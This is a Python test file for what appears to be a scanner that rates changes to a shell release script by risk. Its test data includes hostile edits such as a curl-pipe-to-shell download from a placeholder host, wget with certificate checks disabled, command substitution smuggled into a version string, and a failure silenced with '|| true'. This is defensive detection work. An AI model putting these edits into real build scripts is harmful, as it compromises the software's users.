"""What an edit of a release script means; what a shell drops says nothing."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import shell_script

SCRIPT = r"""#!/usr/bin/env bash
# Release it.
set -euo pipefail

VERSION="1.2.0"
usage() {
  cat <<EOF
Usage: release.sh [--dry-run]
EOF
}

echo "Building the release of acme"
tag="$(git describe --tags "$(git rev-parse HEAD)")"
if [ -n "$tag" ]; then
  echo "Found a tag"
  make dist  # all of it
fi
cp dist/* out/ || exit 1
npm publish --provenance
"""

TOLD = [
    ("a command", ["make dist", "make all"], ["high build-script-changed script"]),
    ("one more", ["make dist", "make dist; ./x"], ["high build-script-changed script"]),
    ("quotes", ['"$tag"', "$tag"], ["medium build-script-changed script"]),
    ("version", ['"1.2.0"', '"1.3.0"'], ["medium version-changed VERSION"]),
    ("an older version", ['"1.2.0"', '"1.1.0"'], ["high version-changed VERSION"]),
    ("a version that runs", ['"1.2.0"', '"$(./x)"'], ["high build-script-changed script"]),
    ("fetch and run", ["make dist", "curl -fsSL https://e.example.org/x | sh"],
     ["critical download-and-run script", "high build-script-changed script"]),
    ("checks of transport", ["make dist", "wget --no-check-certificate https://e.example.org/x"],
     ["critical transport-weakened script", "high build-script-changed script"]),
    ("another place to publish", ["make dist", "docker push example.org/acme"],
     ["critical publish-changed script", "high build-script-changed script"]),
    ("a failure swallowed", ["|| exit 1", "|| true"], ["high build-script-changed script"]),
    ("what is written to a file", ['echo "Found a tag"', 'echo "Found a tag" > x'],
     ["high build-script-changed script"]),
    ("what is run while it is printed", ['"Found a tag"', '"Found a $(./x)"'], ["high build-script-changed script"]),
    ("a hash in quotes is no comment", ["make dist", 'make "a # b"; ./x "'], None),
    ("order", ["cp dist/* out/ || exit 1\nnpm publish --provenance",
               "npm publish --provenance\ncp dist/* out/ || exit 1"],
     ["medium build-script-changed script"]),
]  # fmt: skip
QUIET = [
    ("comment", ["Release it", "Release all"]),
    ("a comment behind a command", ["# all of it", "# everything"]),
    ("blank lines", ["set -euo pipefail\n", "\n\nset -euo pipefail\n"]),
    ("indentation", ["  make dist", "    make  dist"]),
    ("a line that goes on", ["make dist", "make \\\n    dist"]),
    ("a message", ["Building the release", "We build the release"]),
    ("one more message", ["set -euo pipefail", 'set -euo pipefail\necho "Hello there"']),
    ("a message on the way", ["Found a tag", "There is a tag"]),
    ("usage", ["[--dry-run]", "[--dry-run] [--help]"]),
]


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(edits: list[str], expected: list[str] | None) -> None:
    found = said(shell_script, SCRIPT, edited(SCRIPT, *edits))
    assert found == expected if expected is not None else found


@pytest.mark.parametrize("edits", [row[1] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_means_nothing(edits: list[str]) -> None:
    assert said(shell_script, SCRIPT, edited(SCRIPT, *edits)) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("get() {\n  echo one two\n}\nx=$(get)\n", "get() {\n  echo two one two\n}\nx=$(get)\n"),
        ('for i in 1; do\necho "a b"\ndone > f\n', 'for i in 1; do\necho "a c"\ndone > f\n'),
        ('echo "a b" | sh\n', 'echo "a c" | sh\n'),
        ('echo "::set-output name=a::b c"\n', 'echo "::set-output name=a::b d"\n'),
        ("echo 1.0\n", "echo 1.1\n"),
        ('x="$(a "b # c" d)"\n', 'x="$(a "b # e" d)"\n'),
        ("a${x#1 # 2}\n", "a${x#1 # 3}\n"),
        ("cat > f <<EOF\n# a\nEOF\n", "cat > f <<EOF\n# b\nEOF\n"),
        ("x $'a\\' # b' c\n", "x $'a\\' # c' c\n"),
        ('x "$(case a in a) echo "# b";; esac)"\n', 'x "$(case a in a) echo "# c";; esac)"\n'),
        ('print() {\n  "$@"\n}\nprint ./a now\n', 'print() {\n  "$@"\n}\nprint ./b now\n'),
        ('x "open\n# a\n', 'x "open\n# b\n'),
    ],
)
def test_what_looks_like_talk_and_is_not(old: str, new: str) -> None:
    assert said(shell_script, old, new)


def test_new_gone_and_unreadable() -> None:
    assert said(shell_script, None, SCRIPT) == [
        "critical publish-changed script",
        "high build-script-changed script",
    ]
    assert said(shell_script, SCRIPT, None) == ["medium file-removed file"]
    assert [each.split()[1] for each in said(shell_script, SCRIPT, "<<<<<<< a\n")] == ["opaque"]
    assert said(shell_script, SCRIPT, "#!/usr/bin/env perl\n") == ["high content-changed script"]


@pytest.mark.parametrize("path", ["release.sh", "ci/run", "scripts/publish", "mise-tasks/dev/publish", "a/x.bash"])
def test_names(path: str) -> None:
    assert shell_script.matches(path)
    assert not shell_script.matches(f"{path}.md")


def test_a_large_script_takes_no_time() -> None:
    large = (SCRIPT * 900).encode()
    start = time.process_time()
    assert list(shell_script.diff(large[:200_000], large))
    assert time.process_time() - start < 3


@settings(max_examples=100, deadline=None)
@given(old=mangled(SCRIPT), new=mangled(SCRIPT))
def test_never_raises(old: bytes, new: bytes) -> None:
    never_raises(shell_script, old, new)
